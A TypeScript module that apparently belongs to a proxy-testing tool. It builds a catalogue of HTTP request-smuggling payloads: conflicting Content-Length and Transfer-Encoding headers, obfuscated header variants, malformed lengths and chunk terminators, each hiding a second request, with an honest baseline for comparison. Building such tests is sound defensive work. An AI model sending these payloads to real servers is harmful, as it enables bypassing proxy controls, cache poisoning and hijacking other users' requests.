/** One request that two parsers may understand differently, and a second one that may hide in it. */
export interface Smuggle {
  name: string
  /** Everything that is written; `head` ends without an empty line, `inner` is a whole request. */
  write(head: string[], inner: string): string
  /** By itself simply two requests: it hides something only from a proxy that reads it otherwise. */
  plain?: true
}

const join = (head: string[], headers: string[], body: string) => `${[...head, ...headers].join('\r\n')}\r\n\r\n${body}`
const length = (text: string) => `Content-Length: ${text.length}`
const chunked = 'Transfer-Encoding: chunked'
const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
const end = '0\r\n\r\n'

/** Lines by which one parser reads chunks and the other the length, or neither what it seems. */
const disguises = [
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked\t',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: Chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;x=y',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding : chunked',
  'Transfer_Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'X: x\nTransfer-Encoding: chunked',
  'X: x\rTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
]

/** Ways to write a length that isn't one, or two of them. */
const lengths = (size: number) => [
  `Content-Length: 0\r\nContent-Length: ${size}`,
  `Content-Length: ${size}\r\nContent-Length: 0`,
  `Content-Length: 0, ${size}`,
  `Content-Length: +${size}`,
  `Content-Length: 0x${size.toString(16)}`,
  `Content-Length: ${size}e0`,
  'Content-Length: -1',
  `Content-Length: ${size}\x0b`,
  `Content-Length : ${size}`,
  `X: x\nContent-Length: ${size}`,
  `X: x\rContent-Length: ${size}`,
  `Content-Length:\r\n ${size}`,
  `Content_Length: ${size}`,
  'Content-Length: 18446744073709551616',
]

/** Ends and sizes of chunks that parsers read differently. */
const chunks = (inner: string) => [
  `0\n\n${inner}`,
  `0;\n${inner}`,
  `0;x="\r\n\r\n${inner}"\r\n\r\n`,
  `0x0\r\n\r\n${inner}`,
  ` 0\r\n\r\n${inner}`,
  `+0\r\n\r\n${inner}`,
  `-1\r\n\r\n${inner}`,
  `ffffffffffffffff\r\n${inner}`,
  `10000000000000000\r\n\r\n${inner}`,
  `5\r\nabcde0\r\n\r\n${inner}`,
  `3\r\nabc\n0\r\n\r\n${inner}`,
]

export const smuggles: Smuggle[] = [
  { name: 'length and chunks', write: (head, inner) => join(head, [length(end + inner), chunked], end + inner) },
  { name: 'chunks and length', write: (head, inner) => join(head, [chunked, 'Content-Length: 4'], chunk(inner)) },
  {
    name: 'length nought and chunks',
    write: (head, inner) => join(head, ['Content-Length: 0', chunked], chunk(inner)),
  },
  ...disguises.flatMap((line): Smuggle[] => [
    {
      name: `length and ${JSON.stringify(line)}`,
      write: (head, inner) => join(head, [length(end + inner), line], end + inner),
    },
    { name: `${JSON.stringify(line)} alone`, write: (head, inner) => join(head, [line], chunk(inner)) },
  ]),
  ...lengths(0).map(
    (_, index): Smuggle => ({
      name: `length written as ${JSON.stringify(lengths(1)[index])}`,
      write: (head, inner) => join(head, [lengths(inner.length)[index] ?? ''], inner),
      // A name that means nothing: there is no body.
      ...(lengths(1)[index]?.startsWith('Content_') && { plain: true }),
    }),
  ),
  ...chunks('').map(
    (_, index): Smuggle => ({
      name: `chunks ended by ${JSON.stringify(chunks('…')[index]?.slice(0, 24))}`,
      write: (head, inner) => join(head, [chunked], chunks(inner)[index] ?? ''),
    }),
  ),
  {
    name: 'length taken away by Connection',
    write: (head, inner) => join(head, ['Connection: Content-Length', length(inner)], inner),
  },
  {
    name: 'chunks of an old version',
    plain: true,
    write: ([line = '', ...head], inner) =>
      join([line.replace('HTTP/1.1', 'HTTP/1.0'), ...head], ['Connection: keep-alive', chunked], end + inner),
  },
  {
    name: 'a trailer that is a request',
    write: (head, inner) => join(head, [chunked, 'Trailer: Host'], `0\r\n${inner}`),
  },
]

/** Two requests after each other, as any client may send them: shows that the second one would be noticed. */
export const honest = (head: string[], inner: string): string => join(head, ['Content-Length: 0'], inner)
